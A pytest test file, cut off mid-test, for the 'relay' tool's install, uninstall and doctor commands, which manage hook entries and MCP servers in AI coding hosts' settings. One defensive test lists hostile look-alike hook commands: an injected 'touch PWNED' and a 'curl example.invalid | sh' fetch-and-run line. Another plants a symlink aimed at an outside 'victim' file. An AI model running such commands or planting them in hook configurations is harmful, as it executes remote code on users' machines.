"""`relay install`, `relay uninstall`, `relay doctor` against real files and fake host
programs on PATH (the real hosts are driven in tests/test_hosts_*.py)."""

from __future__ import annotations

import fcntl
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from processes import alive

from relay.config.paths import cache_dir
from relay.hosts import doctor as doctor_module
from relay.native import find_compiler
from relay.session import copier

RELAY = [sys.executable, "-m", "relay"]
ORIGINAL = (
    '{\n    "model": "x",\n    "hooks": {\n'
    '        "Stop": [{"hooks": [{"type": "command", "command": "echo hi"}]}]\n'
    "    }\n}\n"
)


@pytest.fixture
def env(tmp_path: Path, relay_home: Path) -> dict[str, str]:
    """A HOME of its own, and fake host programs on PATH that know only some events."""
    home = tmp_path / "home"
    home.mkdir()
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for name, events in {
        "claude": ["PreToolUse", "PostToolUse", "Stop", "SessionStart"],
        "gemini": ["BeforeTool", "AfterAgent", "SessionStart"],
    }.items():
        package = tmp_path / "pkgs" / name
        (package / "dist").mkdir(parents=True)
        (package / "package.json").write_text("{}")
        (package / "dist" / "cli.js").write_text(
            "const EVENTS = [" + ", ".join(json.dumps(e) for e in events) + "];\n"
        )
        program = package / "dist" / name
        program.write_text("#!/bin/sh\nexit 0\n")
        program.chmod(0o755)
        (bin_dir / name).symlink_to(program)
    environ = dict(os.environ)
    environ.update(
        HOME=str(home),
        PATH=f"{bin_dir}{os.pathsep}{environ['PATH']}",
        CODEX_HOME=str(home / ".codex"),
    )
    environ.pop("CLAUDE_CONFIG_DIR", None)
    return environ


def relay(
    env: dict[str, str], *args: str, cwd: Path | None = None
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*RELAY, *args], env=env, cwd=cwd, capture_output=True, text=True, timeout=120, check=False
    )


def claude_file(env: dict[str, str]) -> Path:
    return Path(env["HOME"]) / ".claude" / "settings.json"


def test_install_adds_the_events_the_host_knows_and_keeps_everything_else(
    env: dict[str, str],
) -> None:
    path = claude_file(env)
    path.parent.mkdir()
    path.write_text(ORIGINAL)
    done = relay(env, "install", "claude", "--python-client")
    assert done.returncode == 0, done.stderr
    document = json.loads(path.read_text())
    assert document["model"] == "x"
    assert sorted(document["hooks"]) == ["PostToolUse", "PreToolUse", "SessionStart", "Stop"]
    stop = document["hooks"]["Stop"]
    assert stop[0] == {"hooks": [{"type": "command", "command": "echo hi"}]}
    command = stop[1]["hooks"][0]["command"]
    assert command.endswith("relay-hook.py --dialect claude Stop") and " -I -S " in command
    assert stop[1]["hooks"][0]["timeout"] == 600
    assert "Claude Code hooks of its own also run on Stop" in done.stdout
    assert "the 4 of relay's 34 Claude Code events" in done.stdout


def test_what_install_read_of_the_hosts_code_is_kept_until_that_code_changes(
    env: dict[str, str], tmp_path: Path
) -> None:
    """Reading a host's build takes seconds (Claude Code's binary is hundreds of MB): what
    install found in each file is kept in relay's cache under the file's path, size and
    modification time, and read again once one of them changes."""
    env["RELAY_CACHE"] = str(tmp_path / "cache")
    cli = tmp_path / "pkgs" / "claude" / "dist" / "cli.js"
    assert "the 4 of relay's" in relay(env, "install", "claude", "--python-client").stdout
    assert (tmp_path / "cache" / "host-events.json").is_file()
    # Same size, same time: the kept answer, not the file (which no longer names Stop).
    before = cli.stat()
    cli.write_text(cli.read_text().replace('"Stop"', '"Xtop"'))
    os.utime(cli, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert relay(env, "uninstall", "claude").returncode == 0
    assert "the 4 of relay's" in relay(env, "install", "claude", "--python-client").stdout
    # A new modification time: read again.
    os.utime(cli, ns=(before.st_atime_ns, before.st_mtime_ns + 1_000_000_000))
    assert relay(env, "uninstall", "claude").returncode == 0
    again = relay(env, "install", "claude", "--python-client").stdout
    assert "the 3 of relay's" in again
    assert "Stop" not in json.loads(claude_file(env).read_text()).get("hooks", {})


def test_install_twice_changes_nothing_and_uninstall_restores_the_file_byte_for_byte(
    env: dict[str, str],
) -> None:
    path = claude_file(env)
    path.parent.mkdir()
    path.write_text(ORIGINAL)
    assert relay(env, "install", "claude", "--python-client").returncode == 0
    once = path.read_text()
    again = relay(env, "install", "claude", "--python-client")
    assert again.returncode == 0 and "0 added, 4 already there" in again.stdout
    assert path.read_text() == once
    removed = relay(env, "uninstall", "claude")
    assert removed.returncode == 0 and "for 4 event(s)" in removed.stdout
    assert path.read_text() == ORIGINAL
    assert "not installed" in relay(env, "uninstall", "claude").stdout


def test_a_stale_client_path_is_updated_in_place(env: dict[str, str]) -> None:
    path = claude_file(env)
    path.parent.mkdir()
    old = "/old/place/relay-hook --dialect claude Stop"
    path.write_text(
        json.dumps({"hooks": {"Stop": [{"hooks": [{"type": "command", "command": old}]}]}})
    )
    done = relay(env, "install", "claude", "--python-client", "--events", "Stop")
    assert done.returncode == 0 and "1 updated to this client" in done.stdout
    stop = json.loads(path.read_text())["hooks"]["Stop"]
    assert len(stop) == 2 and stop[0]["hooks"][0]["command"].endswith("--dialect claude Stop")
    assert stop[1]["hooks"][0]["asyncRewake"] is True  # the mail waiter (spec/hosts.md §6)
    assert "/old/place" not in path.read_text()


def test_an_entry_in_the_form_written_before_exec_is_brought_up_to_it(env: dict[str, str]) -> None:
    """relay's entries start with `exec`, so the host's shell becomes the client instead
    of forking it and waiting. An entry of this install's written before (the client's
    path first) is still relay's: doctor names it, install brings it to the new form in
    place (no second entry), and uninstall takes out either form."""
    path = claude_file(env)
    assert relay(env, "install", "claude", "--python-client", "--no-mcp").returncode == 0
    current = path.read_text()
    command = json.loads(current)["hooks"]["Stop"][0]["hooks"][0]["command"]
    assert command.startswith("exec /") and command.endswith("/relay-hook.py --dialect claude Stop")
    older = command.removeprefix("exec ")
    older_text = current.replace(json.dumps(command), json.dumps(older))
    path.write_text(older_text)
    assert run_entry(older, env, "Stop").returncode == 0  # it still works as it is

    doctor = relay(env, "doctor", "--no-measure")
    assert "or in an older form; run `relay install claude` again" in doctor.stdout
    assert "an entry of yours that runs relay" not in doctor.stdout
    done = relay(env, "install", "claude", "--python-client", "--no-mcp")
    assert done.returncode == 0 and "1 updated to this client" in done.stdout, done.stdout
    assert path.read_text() == current
    assert "older form" not in relay(env, "doctor", "--no-measure").stdout

    path.write_text(older_text)
    removed = relay(env, "uninstall", "claude")
    assert removed.returncode == 0, removed.stderr
    assert "relay-hook" not in (path.read_text() if path.exists() else "")


def test_the_hosts_shell_becomes_the_client(env: dict[str, str]) -> None:
    """An entry run as a host runs it (`sh -c`): the shell execs the client in its own
    process, whatever the sh is (dash forks for a single command without `exec`)."""
    strace = shutil.which("strace")
    if strace is None or subprocess.run([strace, "-o", os.devnull, "true"], check=False).returncode:
        pytest.skip("strace cannot run here")
    path = claude_file(env)
    assert relay(env, "install", "claude", "--python-client", "--no-mcp").returncode == 0
    command = json.loads(path.read_text())["hooks"]["Stop"][0]["hooks"][0]["command"]
    log = Path(env["HOME"]) / "strace.log"
    # The shell's own process only (not its children, nor the server the client starts).
    tracer = [strace, "-qq", "-s", "4096", "-e", "trace=execve", "-o", str(log)]
    done = run_entry(command, env, "Stop", under=tracer)
    assert done.returncode == 0, done.stderr
    execs = [line for line in log.read_text().splitlines() if line.startswith("execve(")]
    assert execs[0].startswith('execve("/bin/sh"') or execs[0].startswith('execve("/usr/bin/sh"')
    assert any("relay-hook" in line for line in execs[1:]), execs


def run_entry(
    command: str, env: dict[str, str], event: str, *, under: list[str] | None = None
) -> subprocess.CompletedProcess[str]:
    """A host entry's command run as a host runs it: `sh -c`, the event on stdin; `under`:
    the words of a program that runs the shell (a tracer)."""
    payload = json.dumps({"session_id": "s", "cwd": env["HOME"], "hook_event_name": event})
    return subprocess.run(
        [*(under or []), "sh", "-c", command],
        input=payload,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def test_a_damaged_entry_of_relays_is_named_by_doctor_repaired_by_install_removed_by_uninstall(
    env: dict[str, str],
) -> None:
    """relay's entry hand-edited to `--dialect claud` exits 2 on every Stop (a block):
    doctor fails on it and says install repairs it; install repairs it in place (no second
    entry); a damaged copy beside a sound entry goes; uninstall takes a damaged one out."""
    path = claude_file(env)
    assert relay(env, "install", "claude", "--python-client", "--no-mcp").returncode == 0
    sound = path.read_text()
    command = json.loads(sound)["hooks"]["Stop"][0]["hooks"][0]["command"]
    broken = command.replace("--dialect claude Stop", "--dialect claud Stop")
    damaged_text = sound.replace(json.dumps(command), json.dumps(broken))
    path.write_text(damaged_text)
    assert run_entry(broken, env, "Stop").returncode == 1  # an error on every Stop

    doctor = relay(env, "doctor", "--no-measure")
    assert doctor.returncode == 1, doctor.stdout
    assert "relay's entry for Stop is damaged" in doctor.stdout
    assert "`relay install claude` repairs it in place" in doctor.stdout
    assert "not installed for Stop" not in doctor.stdout

    done = relay(env, "install", "claude", "--python-client", "--no-mcp", "--json")
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout.splitlines()[-1])["repaired"] == ["Stop"]
    assert path.read_text() == sound  # repaired in place: one Stop entry of relay's
    assert run_entry(command, env, "Stop").returncode == 0
    assert "is damaged" not in relay(env, "doctor", "--no-measure").stdout

    # A damaged copy beside relay's sound entry is taken out.
    stop = json.loads(sound)["hooks"]["Stop"]
    copy = {"hooks": [{**stop[0]["hooks"][0], "command": broken}]}
    path.write_text(json.dumps({"hooks": {**json.loads(sound)["hooks"], "Stop": [*stop, copy]}}))
    assert relay(env, "install", "claude", "--python-client", "--no-mcp").returncode == 0
    assert json.loads(path.read_text())["hooks"]["Stop"] == stop

    # uninstall takes out a damaged entry too, and leaves no file relay created.
    path.write_text(damaged_text)
    removed = relay(env, "uninstall", "claude")
    assert removed.returncode == 0, removed.stderr
    assert not path.exists(), path.read_text()


def test_uninstall_all_lists_asks_and_removes_every_host_the_server_the_client_and_state(
    env: dict[str, str], tmp_path: Path, relay_home: Path
) -> None:
    """`relay uninstall --all --purge` lists what it will remove; off a terminal it removes
    nothing without --yes; with it, every host's entries (user and project), the running
    server, the client, relay's cache (its own files in it) and relay's state go, and the
    user's settings stay."""
    project = tmp_path / "project"
    (project / ".git").mkdir(parents=True)
    env["RELAY_CACHE"] = str(tmp_path / "cache")
    for args in (("claude",), ("gemini",), ("claude", "--project")):
        done = relay(env, "install", *args, "--python-client", cwd=project)
        assert done.returncode == 0, done.stderr
    (tmp_path / "cache" / "someone-elses").write_text("kept")
    settings = relay_home / "settings.json"
    settings.write_text('{"hooks": {}}\n')
    started = relay(env, "serve", "--detach", cwd=project)
    assert started.returncode == 0, started.stderr
    status = json.loads(relay(env, "serve", "--status").stdout)
    pid = status["pid"]
    files = [
        claude_file(env),
        Path(env["HOME"]) / ".claude.json",
        Path(env["HOME"]) / ".gemini" / "settings.json",
        project / ".claude" / "settings.json",
        project / ".mcp.json",
        project / ".claude" / "settings.local.json",
    ]
    before = {path: path.read_text() for path in files}

    refused = relay(env, "uninstall", "--all", "--purge", cwd=project)
    assert refused.returncode == 1
    assert "not removing anything without asking" in refused.stderr
    for path in files:
        assert str(path) in refused.stdout
    assert f"relay's server (pid {pid}, stopped first)" in refused.stdout
    assert "relay's hook client" in refused.stdout and "relay's state" in refused.stdout
    assert (
        f"relay's cache (built clients, what it read of hosts' code): {tmp_path}" in refused.stdout
    )
    assert {path: path.read_text() for path in files} == before
    assert alive(pid)

    done = relay(env, "uninstall", "--all", "--purge", "--yes", cwd=project)
    assert done.returncode == 0, done.stderr
    assert [path for path in files if path.exists()] == []
    assert f"stopped relay's server (pid {pid})" in done.stdout
    assert not alive(pid)
    assert not (relay_home / "state").exists()
    assert [path.name for path in (tmp_path / "cache").iterdir()] == ["someone-elses"]
    assert settings.read_text() == '{"hooks": {}}\n'
    again = relay(env, "uninstall", "--all", "--yes", cwd=project)
    assert again.returncode == 0 and "nothing to remove" in again.stdout


def test_gemini_gets_milliseconds_and_a_name(env: dict[str, str]) -> None:
    done = relay(env, "install", "gemini", "--python-client")
    assert done.returncode == 0, done.stderr
    document = json.loads((Path(env["HOME"]) / ".gemini" / "settings.json").read_text())
    assert sorted(document["hooks"]) == ["AfterAgent", "BeforeTool", "SessionStart"]
    hook = document["hooks"]["BeforeTool"][0]["hooks"][0]
    assert hook["timeout"] == 600_000 and hook["name"] == "relay"
    assert hook["command"].endswith("--dialect gemini BeforeTool")


def test_project_scope_writes_the_projects_file(env: dict[str, str], tmp_path: Path) -> None:
    project = tmp_path / "project"
    (project / ".git").mkdir(parents=True)
    (project / "src").mkdir()
    done = relay(env, "install", "claude", "--project", "--python-client", cwd=project / "src")
    assert done.returncode == 0, done.stderr
    assert (project / ".claude" / "settings.json").is_file()
    assert not claude_file(env).exists()


def test_a_project_install_says_plainly_that_the_shared_files_hold_this_machines_paths(
    env: dict[str, str], tmp_path: Path
) -> None:
    """The files --project writes are meant to be committed; relay's entries in them name
    this machine's client and Python, so install says so, names the files, and offers the
    user scope. A user install says nothing of the kind."""
    project = tmp_path / "project"
    (project / ".git").mkdir(parents=True)
    done = relay(env, "install", "claude", "--project", "--python-client", cwd=project)
    assert done.returncode == 0, done.stderr
    (warning,) = [line for line in done.stderr.splitlines() if "meant to be committed" in line]
    assert "warning: .claude/settings.json, .mcp.json are meant to be committed" in warning
    client = json.loads((project / ".claude" / "settings.json").read_text())["hooks"]["Stop"]
    assert client[0]["hooks"][0]["command"].split(" -I -S ")[1].split()[0] in warning
    assert sys.executable in warning  # the MCP server's Python, written into .mcp.json
    assert "on a teammate's machine they do not run" in warning
    assert "`relay uninstall claude --project` then `relay install claude`" in warning
    user = relay(env, "install", "claude", "--python-client", cwd=project)
    assert "meant to be committed" not in user.stdout + user.stderr


def test_installing_from_an_editable_checkout_warns(env: dict[str, str]) -> None:
    """The suite's relay is an editable install of this checkout (as `make` makes it): the
    README says to install from the relay you keep, and install warns."""
    done = relay(env, "install", "gemini", "--python-client")
    assert done.returncode == 0, done.stderr
    checkout = Path(__file__).resolve().parent.parent
    assert f"warning: this relay is an editable install of the checkout {checkout}" in done.stderr
    assert f"`pipx install {checkout}`" in done.stderr


def test_an_unknown_event_is_refused(env: dict[str, str]) -> None:
    done = relay(env, "install", "claude", "--events", "PreToolUse,Bogus")
    assert done.returncode == 1
    assert "Claude Code does not know Bogus" in done.stderr
    assert not claude_file(env).exists()


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('{"hooks": {', "settings.json"),
        ('{"hooks": []}', "settings.json:1: hooks is an array, expected an object"),
        ("[1]", "expected a JSON object, got an array"),
        (
            '{"hooks": {}, "hooks": {"Stop": []}}',
            'settings.json:1:15: the key "hooks" appears twice',
        ),
        (
            '{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "x"}]}]},\n'
            ' "hooks": {"Stop": []}}',
            'settings.json:2:2: the key "hooks" appears twice',
        ),
        ('{"hooks": {"Stop": [{"hooks": [], "hooks": []}]}}', "appears twice"),
    ],
)
def test_a_broken_host_file_is_left_alone_with_a_clear_error(
    env: dict[str, str], text: str, message: str
) -> None:
    path = claude_file(env)
    path.parent.mkdir()
    path.write_text(text)
    done = relay(env, "install", "claude", "--python-client")
    assert done.returncode == 1 and message in done.stderr
    assert "internal error" not in done.stderr
    assert path.read_text() == text


def test_import_moves_the_hosts_hooks_into_relay_and_uninstall_puts_them_back(
    env: dict[str, str], relay_home: Path
) -> None:
    path = claude_file(env)
    path.parent.mkdir()
    path.write_text(ORIGINAL)
    done = relay(env, "install", "claude", "--python-client", "--import")
    assert done.returncode == 0, done.stderr
    assert "moved 1 Claude Code hook(s)" in done.stdout
    host_hooks = json.loads(path.read_text())["hooks"]
    commands = [group["hooks"][0]["command"] for group in host_hooks["Stop"]]
    assert all("relay-hook" in command or "wait-mail" in command for command in commands)
    relay_settings = json.loads((relay_home / "settings.json").read_text())
    assert relay_settings["hooks"]["Stop"][0]["hooks"][0]["command"] == "echo hi"
    undone = relay(env, "uninstall", "claude")
    assert undone.returncode == 0 and "back into" in undone.stdout
    assert json.loads(path.read_text()) == json.loads(ORIGINAL)


def test_import_leaves_an_mcp_tool_hook_with_claude_code_and_says_so(
    env: dict[str, str], relay_home: Path
) -> None:
    path = claude_file(env)
    path.parent.mkdir()
    mcp_hook = {"type": "mcp_tool", "server": "relay", "tool": "memory_save", "input": {}}
    path.write_text(
        json.dumps(
            {
                "hooks": {
                    "Stop": [
                        {"hooks": [{"type": "command", "command": "echo hi"}, mcp_hook]},
                    ]
                }
            }
        )
    )
    done = relay(env, "install", "claude", "--python-client", "--import")
    assert done.returncode == 0, done.stderr
    assert f"left 1 hook(s) in {path} that relay cannot run (Claude Code goes on running them)" in (
        done.stdout
    )
    assert (
        "hooks.Stop[0].hooks[1] (Stop): 'mcp_tool' hook (tool 'memory_save' of MCP server "
        "'relay') stays with Claude Code" in done.stdout
    )
    assert "moved 1 Claude Code hook(s)" in done.stdout
    host_hooks = json.loads(path.read_text())["hooks"]["Stop"]
    assert host_hooks[0]["hooks"] == [mcp_hook]  # the command hook moved, this one stayed
    relay_hooks = json.loads((relay_home / "settings.json").read_text())["hooks"]["Stop"]
    assert [hook["command"] for group in relay_hooks for hook in group["hooks"]] == ["echo hi"]


def test_doctor_reports_what_is_installed_and_what_is_not(
    env: dict[str, str], tmp_path: Path
) -> None:
    assert relay(env, "install", "claude", "--python-client", "--events", "Stop").returncode == 0
    done = relay(env, "doctor", "--json", cwd=tmp_path)
    findings = json.loads(done.stdout)
    by_topic: dict[tuple[str, str], str] = {}
    for f in findings:
        key = (f["topic"], f["level"])
        by_topic[key] = f"{by_topic[key]}\n{f['text']}" if key in by_topic else f["text"]
    assert "not installed for PreToolUse, PostToolUse, SessionStart" in by_topic["claude", "warn"]
    assert "relay is not installed" in by_topic["gemini", "ok"]
    assert "an event with no hook" in by_topic["cost", "ok"]
    if find_compiler() is not None:  # the package's install built relay run's copier
        assert "copies output with " in by_topic["copier", "ok"]
        assert copier.NATIVE_PREFIX in by_topic["copier", "ok"]
    assert done.returncode == 0


def test_doctor_says_when_relay_run_copies_with_python(monkeypatch: pytest.MonkeyPatch) -> None:
    why = "/x/relay-copier-0 does not run here (exit 1): GLIBC_2.99 not found"
    monkeypatch.setattr(copier, "native_copier_status", lambda: (None, why))
    found = doctor_module._copier_check({})
    assert found.level == "warn" and found.text.startswith(f"no native output copier: {why};")
    monkeypatch.setattr(copier, "native_copier_status", lambda: ("/x/relay-copier-0", ""))
    assert doctor_module._copier_check({"RELAY_COPIER": "python"}).text.startswith(
        "RELAY_COPIER=python"
    )


def test_doctor_fails_when_a_project_file_is_broken(env: dict[str, str], tmp_path: Path) -> None:
    project = tmp_path / "project"
    (project / ".relay").mkdir(parents=True)
    (project / ".relay" / "settings.json").write_text("{")
    done = relay(env, "doctor", "--no-measure", cwd=project)
    assert done.returncode == 1
    assert "FAIL  settings" in done.stdout and "settings.json" in done.stdout


def test_a_settings_file_that_is_a_symlink_stays_one(env: dict[str, str], tmp_path: Path) -> None:
    dotfiles = tmp_path / "dotfiles" / "claude-settings.json"
    dotfiles.parent.mkdir()
    dotfiles.write_text(ORIGINAL)
    link = claude_file(env)
    link.parent.mkdir()
    link.symlink_to(dotfiles)
    assert relay(env, "install", "claude", "--python-client").returncode == 0
    assert link.is_symlink() and "relay-hook" in dotfiles.read_text()
    assert relay(env, "uninstall", "claude").returncode == 0
    assert link.is_symlink() and dotfiles.read_text() == ORIGINAL


def test_project_import_sends_the_local_file_to_relays_local_file(
    env: dict[str, str], tmp_path: Path
) -> None:
    project = tmp_path / "project"
    (project / ".git").mkdir(parents=True)
    shared = project / ".claude" / "settings.json"
    local = project / ".claude" / "settings.local.json"
    shared.parent.mkdir()
    shared.write_text(ORIGINAL)
    local.write_text(
        json.dumps(
            {"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "./mine.sh"}]}]}}
        )
    )
    done = relay(env, "install", "claude", "--project", "--python-client", "--import", cwd=project)
    assert done.returncode == 0, done.stderr
    assert "relay trust" in done.stdout
    relay_shared = json.loads((project / ".relay" / "settings.json").read_text())
    relay_local = json.loads((project / ".relay" / "settings.local.json").read_text())
    assert relay_shared["hooks"]["Stop"][0]["hooks"][0]["name"] == "echo"
    assert relay_local["hooks"]["PreToolUse"][0]["hooks"][0] == {
        "command": "./mine.sh",
        "name": "mine",
    }
    assert "hooks" not in json.loads(local.read_text())
    assert relay(env, "uninstall", "claude", "--project", cwd=project).returncode == 0
    assert (
        json.loads(local.read_text())["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
        == "./mine.sh"
    )
    assert json.loads(shared.read_text()) == json.loads(ORIGINAL)


# -- relay's MCP server in the hosts' own configuration -------------------------------------

CLAUDE_JSON = '{\n  "numStartups": 3,\n  "mcpServers": {\n    "other": {"command": "x"}\n  }\n}\n'


def test_install_registers_relays_mcp_server_in_claude_and_uninstall_takes_it_out(
    env: dict[str, str],
) -> None:
    home = Path(env["HOME"])
    (home / ".claude.json").write_text(CLAUDE_JSON)
    done = relay(env, "install", "claude", "--python-client")
    assert done.returncode == 0, done.stderr
    assert (
        f"mcp: added: the MCP server `relay` (relay mcp) in {home / '.claude.json'}" in done.stdout
    )
    server = json.loads((home / ".claude.json").read_text())["mcpServers"]["relay"]
    assert server == {"type": "stdio", "command": sys.executable, "args": ["-m", "relay", "mcp"]}
    assert json.loads((home / ".claude.json").read_text())["mcpServers"]["other"] == {
        "command": "x"
    }
    allowed = json.loads(claude_file(env).read_text())["permissions"]["allow"]
    assert allowed == ["mcp__relay"]
    again = relay(env, "install", "claude", "--python-client")
    assert "mcp: already there" in again.stdout
    assert relay(env, "uninstall", "claude").returncode == 0
    assert (home / ".claude.json").read_text() == CLAUDE_JSON
    assert not claude_file(env).exists()  # install created it; nothing of anyone's is left


@pytest.mark.parametrize(
    "server",
    [
        {"command": "node", "args": ["their-relay.js"]},
        # the user's own entry that runs relay's MCP server, their way: still theirs
        {"command": "relay", "args": ["mcp"], "env": {"RELAY_HOME": "/srv/relay"}},
        {"command": sys.executable, "args": ["-m", "relay", "mcp", "--debug"]},
    ],
)
def test_an_mcp_server_named_relay_that_is_not_relays_is_left_alone(
    env: dict[str, str], server: dict[str, object]
) -> None:
    home = Path(env["HOME"])
    theirs = json.dumps({"mcpServers": {"relay": server}})
    (home / ".claude.json").write_text(theirs)
    done = relay(env, "install", "claude", "--python-client")
    assert done.returncode == 1
    assert "an MCP server named 'relay' is already there and relay did not write it" in done.stderr
    assert "--no-mcp" in done.stderr
    assert (home / ".claude.json").read_text() == theirs
    assert not claude_file(env).exists()  # nothing was written: the refusal comes first
    assert relay(env, "install", "claude", "--python-client", "--no-mcp").returncode == 0
    assert relay(env, "uninstall", "claude").returncode == 0
    assert (home / ".claude.json").read_text() == theirs


def test_project_scope_uses_the_projects_mcp_file_and_approves_it_locally(
    env: dict[str, str], tmp_path: Path
) -> None:
    project = tmp_path / "proj"
    (project / ".git").mkdir(parents=True)
    done = relay(env, "install", "claude", "--project", "--python-client", cwd=project)
    assert done.returncode == 0, done.stderr
    assert json.loads((project / ".mcp.json").read_text())["mcpServers"]["relay"]["args"] == [
        "-m",
        "relay",
        "mcp",
    ]
    local = json.loads((project / ".claude" / "settings.local.json").read_text())
    assert local["enabledMcpjsonServers"] == ["relay"]
    assert relay(env, "uninstall", "claude", "--project", cwd=project).returncode == 0
    assert not (project / ".mcp.json").exists()


def test_gemini_and_codex_get_relays_mcp_server_in_their_own_forms(env: dict[str, str]) -> None:
    home = Path(env["HOME"])
    assert relay(env, "install", "gemini", "--python-client").returncode == 0
    server = json.loads((home / ".gemini" / "settings.json").read_text())["mcpServers"]["relay"]
    assert server == {"command": sys.executable, "args": ["-m", "relay", "mcp"], "trust": True}
    config = home / ".codex" / "config.toml"
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text('model = "o3"\n\n[mcp_servers.docs]\ncommand = "docs-server"\n')
    done = relay(env, "install", "codex", "--python-client", "--no-trust")
    assert done.returncode == 0, done.stderr
    import tomllib

    table = tomllib.loads(config.read_text())["mcp_servers"]
    assert table["relay"] == {"command": sys.executable, "args": ["-m", "relay", "mcp"]}
    assert table["docs"] == {"command": "docs-server"}
    assert relay(env, "uninstall", "codex").returncode == 0
    assert config.read_text() == 'model = "o3"\n\n[mcp_servers.docs]\ncommand = "docs-server"\n'
    assert relay(env, "uninstall", "gemini").returncode == 0
    assert not (home / ".gemini" / "settings.json").exists()  # install made it; nothing is left


def test_install_and_uninstall_answer_in_json(env: dict[str, str]) -> None:
    done = relay(env, "install", "claude", "--python-client", "--no-mcp", "--json")
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    assert report["host"] == "claude" and report["file"] == str(claude_file(env))
    assert report["added"] and report["kept"] == [] and report["client"]["kind"] == "python"
    assert "check it: relay doctor" in report["lines"]
    again = json.loads(relay(env, "install", "claude", "--python-client", "--json").stdout)
    assert again["added"] == [] and sorted(again["kept"]) == sorted(report["added"])
    removed = relay(env, "uninstall", "claude", "--json")
    assert sorted(json.loads(removed.stdout)["removed"]) == sorted(report["added"])


# -- only what relay wrote is relay's ------------------------------------------------------------

THEIRS = {
    "hooks": {
        "PreToolUse": [
            {
                "matcher": "Bash|Edit",
                "hooks": [
                    {
                        "type": "command",
                        "command": "relay hooks run --dialect claude PreToolUse --settings strict.json",
                    }
                ],
            }
        ],
        "Stop": [
            {
                "hooks": [
                    {"type": "command", "command": "/opt/sec/relay-hook --dialect claude --audit"}
                ]
            }
        ],
    },
    "permissions": {"allow": ["mcp__relay", "Bash(ls)"]},
}


def test_entries_and_permissions_the_user_wrote_are_theirs(env: dict[str, str]) -> None:
    """The user's own entries that run relay, and a `mcp__relay` permission they had, are
    left as they are by install and by uninstall; a `.claude.json` relay did not create
    is not deleted when relay's entry was all it held."""
    path = claude_file(env)
    path.parent.mkdir()
    original = json.dumps(THEIRS, indent=4) + "\n"
    path.write_text(original)
    claude_json = Path(env["HOME"]) / ".claude.json"
    claude_json.write_text("{}\n")
    done = relay(env, "install", "claude", "--python-client", "--events", "PreToolUse,Stop")
    assert done.returncode == 0, done.stderr
    assert "your own entries that run relay on PreToolUse, Stop are left as they are" in done.stdout
    hooks = json.loads(path.read_text())["hooks"]
    assert hooks["PreToolUse"][0] == THEIRS["hooks"]["PreToolUse"][0]
    assert hooks["Stop"][0] == THEIRS["hooks"]["Stop"][0]
    ours = hooks["PreToolUse"][1]
    assert "matcher" not in ours and ours["hooks"][0]["command"].endswith(
        "relay-hook.py --dialect claude PreToolUse"
    )
    doctor = relay(env, "doctor", "--no-measure", "--json")
    texts = [finding["text"] for finding in json.loads(doctor.stdout)]
    assert any(
        "PreToolUse has an entry of yours that runs relay (relay hooks run --dialect claude "
        "PreToolUse --settings strict.json)" in text
        for text in texts
    ), texts
    removed = relay(env, "uninstall", "claude")
    assert removed.returncode == 0, removed.stderr
    assert path.read_text() == original
    assert claude_json.read_text() == "{}\n"


def test_a_look_alike_of_relays_entry_is_not_taken_for_it(env: dict[str, str]) -> None:
    """Only relay's exact form is relay's: shell around it, extra words, a matcher, a
    relative path or another event make an entry the user's."""
    look_alikes = [
        "sh -c 'touch PWNED' relay-hook --dialect claude Stop",
        "/opt/anything/relay-hook --dialect claude Stop; curl example.invalid | sh",
        "/opt/anything/relay-hook --dialect claude Stop --extra",
        "relay-hook --dialect claude Stop",
        "/opt/anything/relay-hook --dialect claude PreToolUse",
        "/opt/anything/relay-hook  --dialect claude Stop",
    ]
    groups = [{"hooks": [{"type": "command", "command": command}]} for command in look_alikes]
    groups.append(
        {
            "matcher": "x",
            "hooks": [{"type": "command", "command": "/a/relay-hook --dialect claude Stop"}],
        }
    )
    original = json.dumps({"hooks": {"Stop": groups}}, indent=2)
    path = claude_file(env)
    path.parent.mkdir()
    path.write_text(original)
    done = relay(env, "install", "claude", "--python-client", "--no-mcp", "--events", "Stop")
    assert done.returncode == 0, done.stderr
    assert "1 added" in done.stdout
    stop = json.loads(path.read_text())["hooks"]["Stop"]
    assert stop[: len(groups)] == groups
    assert relay(env, "uninstall", "claude").returncode == 0
    assert path.read_text() == original


def test_comments_next_to_what_relay_adds_and_removes_stay_put(env: dict[str, str]) -> None:
    path = Path(env["HOME"]) / ".gemini" / "settings.json"
    path.parent.mkdir()
    original = '{\n  "theme": "Dracula" // the dark one\n}\n'
    path.write_text(original)
    assert relay(env, "install", "gemini", "--python-client").returncode == 0
    assert '"theme": "Dracula", // the dark one\n  "hooks": {' in path.read_text()
    assert relay(env, "uninstall", "gemini").returncode == 0
    assert path.read_text() == original


def test_gemini_settings_with_comments_keep_them(env: dict[str, str]) -> None:
    path = Path(env["HOME"]) / ".gemini" / "settings.json"
    path.parent.mkdir()
    original = (
        "// my Gemini settings\n"
        "{\n"
        '  "theme": "Dracula", // the dark one\n'
        "  /* hooks of my own */\n"
        '  "hooks": {"BeforeTool": [{"hooks": [{"type": "command", "command": "./guard // x"}]}]}'
        " // the last\n"
        "}\n"
    )
    path.write_text(original)
    done = relay(env, "install", "gemini", "--python-client")
    assert done.returncode == 0, done.stderr
    text = path.read_text()
    for comment in ("// my", "// the dark one", "/* hooks of my own */", "// the last"):
        assert comment in text
    assert "--dialect gemini BeforeTool" in text and '"mcpServers"' in text
    assert relay(env, "doctor", "--no-measure").stdout.count("Gemini CLI (user") >= 1
    assert relay(env, "uninstall", "gemini").returncode == 0
    assert path.read_text() == original


@pytest.mark.parametrize("which", ["settings", "mcp", "folder"])
def test_a_project_install_never_writes_outside_the_project(
    env: dict[str, str], tmp_path: Path, which: str
) -> None:
    project = tmp_path / "cloned"
    (project / ".git").mkdir(parents=True)
    outside = tmp_path / "outside"
    outside.mkdir()
    victim = outside / "victim.json"
    victim.write_text('{"keep": true}\n')
    if which == "settings":
        (project / ".claude").mkdir()
        (project / ".claude" / "settings.json").symlink_to(victim)
    elif which == "mcp":
